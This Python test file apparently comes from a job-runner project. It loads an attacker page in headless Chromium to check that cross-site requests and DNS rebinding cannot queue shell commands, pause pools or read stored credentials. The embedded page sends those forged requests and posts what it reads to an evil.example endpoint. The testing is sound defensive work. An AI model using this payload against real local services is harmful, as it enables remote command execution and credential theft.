"""A web page that somebody visits on the server's machine runs nothing and reads nothing: pages in a real Chromium, headless.

Needs Debian's package `chromium` (./dev test installs it); without it the tests are skipped, but for those that send the same
bytes by hand."""
import http.server
import json
import os
import pathlib
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import unittest

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
sys.path.insert(0, str(ROOT / "tests" / "chaos"))
from processes import wait_until  # noqa: E402
from stack import Stack, StackSettings  # noqa: E402

BIN = pathlib.Path(os.environ.get("NOETL_BIN_DIR", ROOT / "build" / "release" / "bin"))
CHROMIUM = shutil.which("chromium")
PATIENCE_SECONDS = 60

# Five ways to send a command without asking first, a request without a body, and reads; then it tells that it is done.
PAGE = """<!doctype html><title>page</title><script>
const api = "http://%(target)s";
const command = (name) => JSON.stringify({tool: {kind: "shell", command: "touch %(folder)s/" + name}, max_attempts: 1});
const seen = [];
const tries = [
  () => fetch(api + "/api/v2/commands", {method: "POST", mode: "no-cors", body: new Blob([command("blob-no-type")])}),
  () => fetch(api + "/api/v2/commands", {method: "POST", mode: "no-cors", body: command("text-tab"), headers: {"Content-Type": "text/plain\\t;x"}}),
  () => navigator.sendBeacon(api + "/api/v2/commands", new Blob([command("beacon")])),
  () => fetch(api + "/api/v2/commands", {method: "POST", mode: "no-cors", body: command("text-plain"), headers: {"Content-Type": "text/plain"}}),
  () => fetch(api + "/api/v2/commands", {method: "POST", body: command("json"), headers: {"Content-Type": "application/json"}}),
  () => fetch(api + "/api/v2/pools/default/pause", {method: "POST", mode: "no-cors"}),
  async () => seen.push(await (await fetch(api + "/api/credentials/victim?include_data=true")).text()),
  async () => seen.push(await (await fetch(api + "/api/v2/queue")).text()),
];
(async () => {
  %(before)s
  for (const one of tries) { try { await one(); } catch (error) { } }
  await fetch("%(done)s", {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
})();
</script>"""


class Pages(http.server.ThreadingHTTPServer):
    """A web server of the attacker's; it hears what a page has read."""
    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler)
        self.text, self.seen, self.rebind = "", None, lambda: None
        self.port = self.server_address[1]
        self.thread = threading.Thread(target=self.serve_forever, daemon=True)
        self.thread.start()


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        data = self.server.text.encode() if self.path == "/" else b""
        self.send_response(200 if data else 404)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        if self.path == "/rebind":
            self.server.rebind()
        else:
            self.server.seen = body
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_arguments):
        pass


class Forwarder:
    """One name, one port, two hosts: what a page's own name leads to after its DNS answer has changed. A connection goes to `port`."""

    def __init__(self, port):
        self.port = port
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.own_port = self.listener.getsockname()[1]
        threading.Thread(target=self.run, daemon=True).start()

    def run(self):
        while True:
            try:
                one, _ = self.listener.accept()
            except OSError:
                return
            other = socket.create_connection(("127.0.0.1", self.port))
            for source, target in ((one, other), (other, one)):
                threading.Thread(target=self.pump, args=(source, target), daemon=True).start()

    @staticmethod
    def pump(source, target):
        try:
            while data := source.recv(65536):
                target.sendall(data)
            target.shutdown(socket.SHUT_WR)
        except OSError:
            target.close()


class WebPages(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.stack = Stack(BIN, StackSettings(servers=1, workers=1, env=(("NOETL_ENCRYPTION_KEY", "c" * 64),)), 1).__enter__()
        cls.port = cls.stack.servers[0].port
        status, text = cls.stack.call("POST", "/api/credentials", {"name": "victim", "data": {"password": "S3cretPassw0rd!"}})
        assert status == 200, text

    @classmethod
    def tearDownClass(cls):
        cls.stack.__exit__()

    def setUp(self):
        self.folder = tempfile.TemporaryDirectory(prefix="noetl-page-")
        os.chmod(self.folder.name, 0o777)
        self.pages = Pages()
        self.addCleanup(self.folder.cleanup)
        self.addCleanup(self.pages.server_close)
        self.addCleanup(self.pages.shutdown)
        self.commands_before = self.stack.value("select count(*) from noetl.queue")

    def visit(self, url):
        profile = tempfile.mkdtemp(prefix="noetl-chromium-")
        browser = subprocess.Popen(
            [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
             "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", f"--user-data-dir={profile}",
             "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP *.evil.example 127.0.0.1", "--remote-debugging-port=0", url],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env={**os.environ, "HOME": profile})
        try:
            wait_until("the page to have tried everything", lambda: self.pages.seen is not None or browser.poll() is not None, PATIENCE_SECONDS)
        finally:
            browser.kill()
            browser.wait()
            shutil.rmtree(profile, ignore_errors=True)
        self.assertIsNotNone(self.pages.seen, "the browser ended before its page was done")

    def check_nothing_happened(self):
        # A command that came in would have been claimed within this one's time.
        status, text = self.stack.call("POST", "/api/v2/commands", {"tool": {"kind": "shell", "command": f"touch {self.folder.name}/honest"}})
        self.assertEqual(201, status, text)
        wait_until("the honest command", lambda: (pathlib.Path(self.folder.name) / "honest").exists(), 20)
        self.assertEqual(["honest"], os.listdir(self.folder.name))
        self.assertEqual(self.commands_before + 1, self.stack.value("select count(*) from noetl.queue"))
        self.assertNotIn("true", self.stack.call("GET", "/api/v2/pools/default")[1].split('"is_paused":')[-1][:5])
        for text in self.pages.seen or []:
            self.assertNotIn("S3cretPassw0rd!", text)
            self.assertNotIn('"queue"', text)

    @unittest.skipUnless(CHROMIUM, "needs chromium")
    def test_a_page_of_another_origin_runs_nothing_and_reads_nothing(self):
        self.pages.text = self.page(f"localhost:{self.port}")
        self.visit(f"http://evil.example:{self.pages.port}/")
        self.check_nothing_happened()

    @unittest.skipUnless(CHROMIUM, "needs chromium")
    def test_a_page_whose_own_name_leads_to_the_server_runs_nothing_and_reads_nothing(self):
        for name in ("127.evil.example", "evil.example"):
            with self.subTest(name):
                self.pages.seen = None
                # First its name leads to the page, then to the server: the page calls its own origin.
                forwarder = Forwarder(self.pages.port)
                self.addCleanup(forwarder.listener.close)
                self.pages.rebind = lambda: setattr(forwarder, "port", self.port)
                self.pages.text = self.page(f"{name}:{forwarder.own_port}", f"http://evil.example:{self.pages.port}/done",
                                            "await fetch('/rebind', {method: 'POST', body: '[]'});")
                self.visit(f"http://{name}:{forwarder.own_port}/")
                self.assertEqual(self.port, forwarder.port)
                self.check_nothing_happened()
                os.unlink(f"{self.folder.name}/honest")
                self.commands_before += 1

    def page(self, target, done="/done", before=""):
        return PAGE % {"target": target, "folder": self.folder.name, "done": done, "before": before}

    def test_what_a_browser_sends_is_refused_byte_for_byte(self):
        command = json.dumps({"tool": {"kind": "shell", "command": f"touch {self.folder.name}/bytes"}})
        own = {"Host": f"localhost:{self.port}"}
        cross = {**own, "Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"}
        for headers, expected in (({**own}, 415), ({**own, "Content-Type": "text/plain\t;x"}, 415), ({**own, "Content-Type": "text/plain"}, 415),
                                  ({**cross, "Content-Type": "application/json"}, 403),
                                  ({"Host": "127.evil.example", "Content-Type": "application/json"}, 421),
                                  ({"Host": "evil.example", "Content-Type": "application/json"}, 421)):
            with self.subTest(str(headers)):
                self.assertEqual(expected, self.status("POST", "/api/v2/commands", headers, command))
        self.assertEqual(403, self.status("POST", "/api/v2/pools/default/pause", cross))
        for host in ("127.evil.example", "evil.example", "localhost.evil.example", "127.0.0.1.evil.example"):
            self.assertEqual(421, self.status("GET", "/api/credentials/victim?include_data=true", {"Host": host}))
            self.assertEqual(421, self.status("POST", "/api/v2/pools/default/pause", {"Host": host}))
        self.check_nothing_happened()

    def status(self, method, path, headers, body=""):
        lines = [f"{method} {path} HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items()), f"Content-Length: {len(body)}",
                 "Connection: close", "", body]
        with socket.create_connection(("127.0.0.1", self.port), timeout=20) as connection:
            connection.sendall("\r\n".join(lines).encode())
            return int(connection.makefile("rb").readline().split()[1])


if __name__ == "__main__":
    unittest.main(verbosity=1)
